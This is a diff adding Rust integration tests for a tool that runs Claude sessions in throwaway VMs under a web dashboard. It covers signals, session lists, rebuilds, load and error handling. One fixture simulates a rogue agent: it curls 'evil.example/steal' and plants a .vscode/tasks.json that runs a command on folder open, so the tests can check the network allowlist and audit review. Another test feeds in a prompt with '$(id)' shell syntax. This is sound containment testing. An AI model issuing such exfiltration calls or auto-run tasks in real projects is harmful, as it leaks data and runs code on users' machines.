@@ -1191,3 +1191,634 @@ fn open_gives_the_browser_a_one_use_code_and_never_the_token() {
     );
     assert_eq!(r.status, 401);
 }
+
+/// What a dying multi-threaded server sends its child: its death signal once per thread the
+/// child is handed to while the threads exit (two or three at once is common). They count as
+/// one hang-up: `limactl shell` is told (not SIGKILLed), the guest command ends with it, and
+/// the VM is deleted at once even if something in the guest still held limactl's stderr.
+#[test]
+fn repeated_death_signals_count_once_and_the_vm_is_deleted_at_once() {
+    let w = World::new();
+    w.setup();
+    let mut s = w.spawn(&[
+        "--json",
+        "--",
+        "-p",
+        "hold on",
+        "--output-format",
+        "stream-json",
+        "--verbose",
+        "--sim-sleep",
+        "90",
+    ]);
+    s.await_stdout("fake reply to: hold on");
+    assert_eq!(clones(&w).len(), 1, "{:?}", w.instances());
+    let began = Instant::now();
+    for _ in 0..3 {
+        s.signal(libc::SIGHUP);
+    }
+    let code = s.finish();
+    let took = began.elapsed();
+    assert_eq!(code, 129, "{}", s.stderr());
+    assert!(
+        took < Duration::from_secs(30),
+        "took {took:?}: {}",
+        s.stderr()
+    );
+    assert!(
+        s.stderr().contains("interrupted by SIGHUP"),
+        "{}",
+        s.stderr()
+    );
+    assert!(
+        !s.stderr().contains("no longer waiting"),
+        "a hang-up is not asked twice: {}",
+        s.stderr()
+    );
+    assert_eq!(clones(&w), Vec::<String>::new());
+    assert!(w.journal().is_empty(), "{:?}", w.journal());
+    w.assert_nothing_left("after three SIGHUPs");
+}
+
+/// Sessions started from a terminal show in the page's list (project, VM, started, owner,
+/// warm or cold, network policy), marked as not the page's to stop or review; the page's own
+/// are not listed twice.
+#[test]
+fn the_list_shows_sessions_started_from_a_terminal_too() {
+    let w = World::new();
+    w.setup();
+    let server = Server::start(&w);
+    let driver = Driver::start();
+    let mut cli = w.spawn(&["-p", "from the terminal", "--sim-sleep", "60"]);
+    cli.await_stdout("\"fake\":\"claude\"");
+    let vm = clones(&w).pop().expect("the terminal's VM");
+    let list = server.api("GET", "/api/sessions", None).json();
+    assert_eq!(list["sessions"], json!([]), "not a page session: {list}");
+    let others = list["elsewhere"].as_array().unwrap();
+    assert_eq!(others.len(), 1, "{list}");
+    let o = &others[0];
+    assert_eq!(o["vm"], vm.as_str());
+    assert_eq!(o["owner_pid"], cli.pid());
+    assert_eq!(o["project"], w.project.display().to_string());
+    assert_eq!(o["warm"], false);
+    assert_eq!(o["policy"], "allowlist");
+    let started = o["started_at"].as_u64().unwrap();
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_millis() as u64;
+    assert!(started <= now && now - started < 120_000, "{o}");
+    let project = project_id(&w);
+    rt().block_on(async {
+        let c = driver.browser().await;
+        c.goto(&server.url()).await.unwrap();
+        let row = wait_text(&c, "#sessions-body tr.elsewhere", &vm).await;
+        for want in [
+            format!("pid {}", cli.pid()),
+            "cold boot".to_owned(),
+            "allowlist".to_owned(),
+            "view only".to_owned(),
+            w.project.display().to_string(),
+        ] {
+            assert!(row.contains(&want), "{want} in {row}");
+        }
+        // A page session next to it: listed once, as the page's.
+        start_from_page(&c, &project, "from the page", "--sim-sleep\n60").await;
+        wait_text(&c, "#messages .m-text", "fake reply to: from the page").await;
+        c.find(Locator::Id("nav-sessions"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        let mine = wait_text(&c, "#sessions-body tr", "from the page").await;
+        assert!(mine.contains("stop, watch"), "{mine}");
+        let rows = c.find_all(Locator::Css("#sessions-body tr")).await.unwrap();
+        assert_eq!(rows.len(), 2);
+        c.close().await.unwrap();
+    });
+    let list = server.api("GET", "/api/sessions", None).json();
+    assert_eq!(list["elsewhere"].as_array().unwrap().len(), 1, "{list}");
+    assert_eq!(list["sessions"].as_array().unwrap().len(), 1, "{list}");
+    // Once the terminal's session ends, it leaves the list.
+    cli.signal(libc::SIGTERM);
+    assert_eq!(cli.finish(), 143, "{}", cli.stderr());
+    wait_until("the terminal's session to leave the list", 30, || {
+        server.api("GET", "/api/sessions", None).json()["elsewhere"] == json!([])
+    });
+    drop(server);
+    w.assert_nothing_left("after both sessions");
+}
+
+/// Clicks the first element matching `css`.
+async fn click(c: &Client, css: &str) {
+    c.wait()
+        .for_element(Locator::Css(css))
+        .await
+        .unwrap_or_else(|e| panic!("{css}: {e}"))
+        .click()
+        .await
+        .unwrap_or_else(|e| panic!("click {css}: {e}"));
+}
+
+/// The session id the page shows (`#/session/ID`).
+async fn shown_session(c: &Client) -> String {
+    let url = c.current_url().await.unwrap();
+    url.fragment()
+        .and_then(|f| f.strip_prefix("/session/"))
+        .unwrap_or_else(|| panic!("not a session view: {url}"))
+        .to_owned()
+}
+
+#[test]
+fn the_rebuild_button_shows_the_builds_progress_and_the_new_state() {
+    let w = World::new();
+    w.write_project(".claude-vm.setup.sh", "echo v1 > \"$HOME/version\"\n");
+    w.setup();
+    w.write_project(".claude-vm.setup.sh", "echo v2 > \"$HOME/version\"\n");
+    let server = Server::start(&w);
+    let driver = Driver::start();
+    let id = project_id(&w);
+    let box_css = format!(".project[data-id='{id}']");
+    let before = w.logged().len();
+    rt().block_on(async {
+        let c = driver.browser().await;
+        c.goto(&server.url()).await.unwrap();
+        click(&c, "#nav-projects").await;
+        let state = wait_text(&c, &format!("{box_css} .state"), "out of date").await;
+        assert_eq!(state, "out of date: setup script 1 changed");
+        click(&c, &format!("{box_css} button.rebuild")).await;
+        // Its progress, step by step, then the end and the template's new state.
+        let log = wait_text(
+            &c,
+            &format!("{box_css} .rebuild-log"),
+            "the rebuild ended (exit status 0)",
+        )
+        .await;
+        let steps: Vec<&str> = log.lines().filter(|l| l.starts_with("✓ ")).collect();
+        assert!(steps.len() >= 2, "{log}");
+        let state = wait_text(&c, &format!("{box_css} .state"), "up to date").await;
+        assert_eq!(state, "up to date");
+        let enabled = c
+            .find(Locator::Css(&format!("{box_css} button.rebuild")))
+            .await
+            .unwrap()
+            .is_enabled()
+            .await
+            .unwrap();
+        assert!(enabled, "the button is back once the rebuild is over");
+        c.close().await.unwrap();
+    });
+    // A rebuild: the new template built aside and swapped in.
+    let verbs: Vec<String> = w.logged()[before..]
+        .iter()
+        .filter_map(|c| c.first().cloned())
+        .collect();
+    for v in ["create", "start", "shell", "stop", "rename", "delete"] {
+        assert!(verbs.iter().any(|x| x == v), "{v} in {verbs:?}");
+    }
+    assert_eq!(w.templates(), std::slice::from_ref(&id));
+    let p = server.api("GET", "/api/projects", None).json();
+    assert_eq!(p["projects"][0]["up_to_date"], true, "{p}");
+    drop(server);
+    w.assert_nothing_left("after the rebuild");
+}
+
+#[test]
+fn the_continue_button_resumes_the_conversation_in_a_new_vm_with_the_prompt_byte_exact() {
+    let w = World::new();
+    w.setup();
+    let server = Server::start(&w);
+    let driver = Driver::start();
+    let project = project_id(&w);
+    // Typed into the page: quotes, a newline, shell syntax, non-ASCII (WebDriver types the
+    // Basic Multilingual Plane only).
+    let prompt = "and \"then\"? 'it' $(id) `x`\nünïcödé 日本語 \\ end";
+    let (first, second) = rt().block_on(async {
+        let c = driver.browser().await;
+        c.goto(&server.url()).await.unwrap();
+        start_from_page(&c, &project, "first question", "").await;
+        wait_text(&c, "#messages .m-text", "fake reply to: first question").await;
+        wait_text(&c, "#messages .server-note", "the session ended").await;
+        let first = shown_session(&c).await;
+        let form = c
+            .wait()
+            .for_element(Locator::Css("#continue-form:not([hidden])"))
+            .await
+            .unwrap();
+        assert!(form.is_displayed().await.unwrap());
+        c.find(Locator::Id("continue-prompt"))
+            .await
+            .unwrap()
+            .send_keys(prompt)
+            .await
+            .unwrap();
+        click(&c, "#continue-submit").await;
+        wait_text(&c, "#messages .m-text", "fake reply to: and \"then\"?").await;
+        let second = shown_session(&c).await;
+        assert_ne!(first, second);
+        wait_text(&c, "#session-meta", &first).await;
+        wait_text(&c, "#messages .server-note", "the session ended").await;
+        c.close().await.unwrap();
+        (first, second)
+    });
+    let a = server.wait_ended(&first);
+    let b = server.wait_ended(&second);
+    assert_eq!(b["continues"], first.as_str());
+    assert_eq!(b["state"], "finished", "{b}");
+    assert_ne!(a["vm"], b["vm"], "a new clone");
+    let sid = a["claude_session_id"].as_str().expect("session id");
+    assert_eq!(b["claude_session_id"], sid);
+    assert_eq!(b["prompt"], prompt);
+    // What the fake claude got: --resume with the first session's id, the prompt as typed.
+    let init = server
+        .messages(&second)
+        .into_iter()
+        .find(|m| m["source"] == "claude" && m["data"]["type"] == "system")
+        .expect("claude's init");
+    let argv: Vec<String> = init["data"]["sim"]["argv"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap().to_owned())
+        .collect();
+    assert!(
+        argv.windows(2).any(|p| p[0] == "--resume" && p[1] == sid),
+        "{argv:?}"
+    );
+    let p = argv.iter().position(|a| a == "-p").expect("-p");
+    assert_eq!(argv[p + 1], prompt, "{argv:?}");
+    drop(server);
+    w.assert_nothing_left("after the continued session");
+}
+
+/// A loopback HTTP service answering 200 to every request.
+fn host_service() -> u16 {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    std::thread::spawn(move || {
+        for mut s in listener.incoming().flatten() {
+            let mut buf = [0u8; 4096];
+            let _ = s.read(&mut buf);
+            let _ =
+                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
+        }
+    });
+    port
+}
+
+#[test]
+fn stopped_from_the_page_its_vm_is_gone_and_the_review_shows_audit_network_and_working_buttons() {
+    if !isolated() {
+        return;
+    }
+    use std::os::unix::fs::PermissionsExt;
+    let w = World::new();
+    let port = host_service();
+    std::fs::write(
+        w.home.join(".claude-vm.toml"),
+        format!("[network]\nhost_ports = [{port}]\n"),
+    )
+    .unwrap();
+    // What the agent does before it settles down: one request allowed, one denied, and a
+    // file the host's editor would run.
+    w.write_project(
+        ".claude-vm.runtime.sh",
+        &format!(
+            "/usr/bin/curl -s --max-time 10 http://host.lima.internal:{port}/ok >/dev/null\n\
+             /usr/bin/curl -s --max-time 10 http://evil.example/steal >/dev/null\n\
+             mkdir -p .vscode\n\
+             printf '%s\\n' '{{\"tasks\":[{{\"command\":\"evil\",\"runOptions\":{{\"runOn\":\"folderOpen\"}}}}]}}' > .vscode/tasks.json\n"
+        ),
+    );
+    w.setup();
+    let opener = w.bin.join("xdg-open");
+    std::fs::write(
+        &opener,
+        "#!/bin/sh\nprintf '%s' \"$1\" > \"$HOME/opened\"\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&opener, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let server = Server::start(&w);
+    let driver = Driver::start();
+    let project = project_id(&w);
+    let (id, copied) = rt().block_on(async {
+        let c = driver.browser().await;
+        c.goto(&server.url()).await.unwrap();
+        start_from_page(&c, &project, "settle down", "--sim-sleep\n120").await;
+        wait_text(&c, "#messages .m-text", "fake reply to: settle down").await;
+        let id = shown_session(&c).await;
+        let vm = server.session(&id)["vm"].as_str().unwrap().to_owned();
+        assert_eq!(clones(&w), std::slice::from_ref(&vm));
+        click(&c, "#stop").await;
+        let banner = wait_text(&c, "#session-banner", "Stopped: the VM").await;
+        assert_eq!(banner, format!("Stopped: the VM {vm} was deleted."));
+        // Gone for Lima too, and for claude-vm.
+        assert!(!w.instances().contains(&vm), "{:?}", w.instances());
+        let list = w.run(&["list"]);
+        assert!(!list.stdout.contains(&vm), "{}", list.stdout);
+        // The review: the file, the audit's finding, the network log per host.
+        wait_text(&c, "#review-files li", "added .vscode/tasks.json").await;
+        let audit = wait_text(&c, "#review-audit li", ".vscode/tasks.json").await;
+        assert!(!audit.contains("nothing that runs"), "{audit}");
+        let denied = wait_text(&c, "#review-network li", "evil.example").await;
+        assert_eq!(denied, "evil.example: 0 allowed, 1 denied");
+        let allowed = wait_text(&c, "#review-network li", "host.lima.internal").await;
+        assert_eq!(allowed, "host.lima.internal: 1 allowed, 0 denied");
+        // Copy the diff: what reaches the clipboard is the whole diff, and the page says so.
+        c.execute(
+            "window.__copied = []; navigator.clipboard.writeText = (t) => { window.__copied.push(t); return Promise.resolve(); };",
+            vec![],
+        )
+        .await
+        .unwrap();
+        click(&c, "#copy-diff").await;
+        wait_text(&c, "#review-status", "Copied the diff").await;
+        click(&c, "#copy-folder").await;
+        wait_text(&c, "#review-status", "Copied the folder's path").await;
+        let copied = c
+            .execute("return window.__copied;", vec![])
+            .await
+            .unwrap();
+        click(&c, "#open-folder").await;
+        wait_text(&c, "#review-status", "Opened").await;
+        c.close().await.unwrap();
+        (id, copied)
+    });
+    let copied: Vec<String> = serde_json::from_value(copied).unwrap();
+    assert_eq!(copied.len(), 2, "{copied:?}");
+    let review = server
+        .api("GET", &format!("/api/sessions/{id}/review"), None)
+        .json();
+    let diff: String = review["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["diff"].as_str().unwrap())
+        .collect();
+    assert!(diff.contains("+{\"tasks\""), "{diff}");
+    assert_eq!(copied[0], diff);
+    assert_eq!(copied[1], w.project.display().to_string());
+    let opened = w.home.join("opened");
+    wait_until("the opener", 10, || opened.exists());
+    assert_eq!(
+        std::fs::read_to_string(&opened).unwrap(),
+        w.project.display().to_string()
+    );
+    assert_eq!(server.session(&id)["state"], "stopped");
+    drop(server);
+    w.assert_nothing_left("after the stop");
+}
+
+/// An SSE stream read to its `end` event: the `message` events' data.
+fn read_stream(port: u16, host: &str, auth: &str, path: &str) -> Vec<Value> {
+    let r = http(
+        port,
+        "GET",
+        path,
+        &[("Host", host), ("Authorization", auth)],
+        None,
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert!(r.body.contains("event: end"), "the stream ended");
+    let mut out = Vec::new();
+    let mut event = String::new();
+    for line in r.body.lines() {
+        if let Some(e) = line.strip_prefix("event: ") {
+            event = e.to_owned();
+        } else if let Some(d) = line.strip_prefix("data: ") {
+            if event == "message" {
+                out.push(serde_json::from_str(d).expect("message JSON"));
+            }
+        }
+    }
+    out
+}
+
+/// The `tick N` lines the guest printed, in the order a stream gave them.
+fn ticks(msgs: &[Value]) -> Vec<u64> {
+    msgs.iter()
+        .filter(|m| m["data"]["type"] == "guest.stderr")
+        .filter_map(|m| {
+            m["data"]["line"]
+                .as_str()?
+                .strip_prefix("tick ")?
+                .parse()
+                .ok()
+        })
+        .collect()
+}
+
+#[test]
+fn many_page_loads_and_streams_at_once_do_not_block_a_running_session() {
+    use std::sync::atomic::{AtomicBool, Ordering};
+    use std::sync::Arc;
+    const TICKS: u64 = 40;
+    let w = World::new();
+    // The session's own stream: 3 MB at once (more than a socket buffers), then a line every
+    // 100 ms, then claude's reply.
+    w.write_project(
+        ".claude-vm.runtime.sh",
+        &format!(
+            "pad=$(head -c 1000 /dev/zero | tr '\\0' x)\n\
+             i=0; while [ $i -lt 3000 ]; do echo \"bulk $i $pad\" >&2; i=$((i+1)); done\n\
+             i=0; while [ $i -lt {TICKS} ]; do echo \"tick $i\" >&2; i=$((i+1)); sleep 0.1; done\n"
+        ),
+    );
+    w.setup();
+    let server = Server::start(&w);
+    let project = project_id(&w);
+    let (port, host, auth) = (
+        server.port,
+        server.host(),
+        format!("Bearer {}", server.token),
+    );
+    let began = Instant::now();
+    let id = server.start_session(json!({"project": project, "prompt": "under load"}));
+    let events = format!("/api/sessions/{id}/events");
+    // Clients that never read: the session's stream and the list's, held open to the end.
+    let stalled: Vec<TcpStream> = (0..10)
+        .map(|i| {
+            let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
+            let path = if i % 2 == 0 {
+                events.as_str()
+            } else {
+                "/api/stream"
+            };
+            write!(
+                s,
+                "GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: {auth}\r\n\r\n"
+            )
+            .unwrap();
+            s
+        })
+        .collect();
+    let done = Arc::new(AtomicBool::new(false));
+    // 50 streams of the session, read to the end, at once.
+    let readers: Vec<_> = (0..50)
+        .map(|_| {
+            let (host, auth, events) = (host.clone(), auth.clone(), events.clone());
+            std::thread::spawn(move || read_stream(port, &host, &auth, &events))
+        })
+        .collect();
+    // 200 page and API loads, 8 at a time, while it runs.
+    let loaders: Vec<_> = (0..8)
+        .map(|t| {
+            let (host, auth, id, done) = (host.clone(), auth.clone(), id.clone(), done.clone());
+            std::thread::spawn(move || {
+                let paths = [
+                    "/".to_owned(),
+                    "/app.js".to_owned(),
+                    "/api/sessions".to_owned(),
+                    "/api/projects".to_owned(),
+                    format!("/api/sessions/{id}"),
+                ];
+                let mut slowest = (Duration::ZERO, String::new());
+                for i in 0..25 {
+                    let p = &paths[(t + i) % paths.len()];
+                    let t0 = Instant::now();
+                    let r = http(
+                        port,
+                        "GET",
+                        p,
+                        &[("Host", &host), ("Authorization", &auth)],
+                        None,
+                    );
+                    assert_eq!(r.status, 200, "{p}: {}", r.body);
+                    if t0.elapsed() > slowest.0 {
+                        slowest = (t0.elapsed(), p.clone());
+                    }
+                }
+                let _ = done.load(Ordering::SeqCst);
+                slowest
+            })
+        })
+        .collect();
+    let slowest = loaders
+        .into_iter()
+        .map(|l| l.join().expect("a loader"))
+        .max()
+        .unwrap();
+    let r = server.wait_ended(&id);
+    let took = began.elapsed();
+    done.store(true, Ordering::SeqCst);
+    assert_eq!(r["state"], "finished", "{r}");
+    assert_eq!(r["exit_status"], 0, "{r}");
+    eprintln!("under load: the session took {took:?}, the slowest of 200 loads {slowest:?}");
+    assert!(took < Duration::from_secs(90), "the session took {took:?}");
+    // 50 streams of 3 MB keep two cores busy: a load waits for its turn, never for the session.
+    assert!(
+        slowest.0 < Duration::from_secs(20),
+        "a load took {slowest:?}"
+    );
+    let want: Vec<u64> = (0..TICKS).collect();
+    for (i, reader) in readers.into_iter().enumerate() {
+        let msgs = reader.join().expect("a reader");
+        assert_eq!(ticks(&msgs), want, "stream {i}");
+        assert!(
+            msgs.iter()
+                .any(|m| m["data"]["type"] == "result" && m["source"] == "claude"),
+            "stream {i} has claude's result"
+        );
+    }
+    // The server still answers at once, the stalled clients still connected.
+    let t0 = Instant::now();
+    assert_eq!(server.api("GET", "/api/sessions", None).status, 200);
+    assert!(t0.elapsed() < Duration::from_secs(2), "{:?}", t0.elapsed());
+    drop(stalled);
+    assert_eq!(
+        server
+            .api("GET", &format!("/api/sessions/{id}"), None)
+            .status,
+        200
+    );
+    drop(server);
+    w.assert_nothing_left("after the load");
+}
+
+#[test]
+fn oversized_bodies_long_prompts_and_wrong_tokens_on_streams_get_json_errors() {
+    let w = World::new();
+    w.setup();
+    let server = Server::start(&w);
+    let project = project_id(&w);
+    let host = server.host();
+    let auth = format!("Bearer {}", server.token);
+    let ct = [
+        ("Host", host.as_str()),
+        ("Authorization", auth.as_str()),
+        ("Content-Type", "application/json"),
+    ];
+    // Over the body limit: 413, as JSON, nothing started.
+    let huge = json!({"project": project, "prompt": "x".repeat(2 << 20)}).to_string();
+    let r = http(server.port, "POST", "/api/sessions", &ct, Some(&huge));
+    assert_eq!(r.status, 413, "{}", r.body);
+    assert!(
+        r.json()["error"].as_str().unwrap().contains("over"),
+        "{}",
+        r.body
+    );
+    // Under it, but longer than one argument may be: 400 saying so.
+    for body in [
+        json!({"project": project, "prompt": "y".repeat(200_000)}),
+        json!({"project": project, "prompt": "x", "claude_args": ["z".repeat(200_000)]}),
+    ] {
+        let r = http(
+            server.port,
+            "POST",
+            "/api/sessions",
+            &ct,
+            Some(&body.to_string()),
+        );
+        assert_eq!(r.status, 400, "{}", r.body);
+        assert!(
+            r.json()["error"].as_str().unwrap().contains("too long"),
+            "{}",
+            r.body
+        );
+    }
+    // A path axum rejects itself still answers JSON.
+    let r = http(server.port, "GET", "/api/sessions/%ff%fe", &ct, None);
+    assert!(r.status >= 400 && r.status < 500, "{}", r.status);
+    assert!(r.json()["error"].is_string(), "{}", r.body);
+    // open-folder: only a session's own folder, only with the token.
+    let r = http(
+        server.port,
+        "POST",
+        "/api/sessions/0000000000000-00000000/open-folder",
+        &ct,
+        Some("{}"),
+    );
+    assert_eq!(r.status, 404, "{}", r.body);
+    // A wrong token on the streams: 401 (counted: fewer than the limit here).
+    for p in ["/api/stream", "/api/sessions/0000000000000-00000000/events"] {
+        let wrong = format!("Bearer {}", "1".repeat(64));
+        let r = http(
+            server.port,
+            "GET",
+            p,
+            &[("Host", &host), ("Authorization", &wrong)],
+            None,
+        );
+        assert_eq!(r.status, 401, "{p}: {}", r.body);
+        assert!(r.json()["error"].as_str().unwrap().contains("token"));
+        let r = http(
+            server.port,
+            "POST",
+            "/api/sessions/0000000000000-00000000/open-folder",
+            &[
+                ("Host", &host),
+                ("Authorization", &wrong),
+                ("Content-Type", "application/json"),
+            ],
+            Some("{}"),
+        );
+        assert_eq!(r.status, 401, "{}", r.body);
+    }
+    assert!(w.home.join("opened").metadata().is_err());
+    let all = server.api("GET", "/api/sessions", None).json();
+    assert_eq!(all["sessions"], json!([]), "{all}");
+    assert_eq!(w.logged().iter().filter(|c| c[0] == "clone").count(), 0);
+    drop(server);
+    w.assert_nothing_left("after the refused requests");
+}
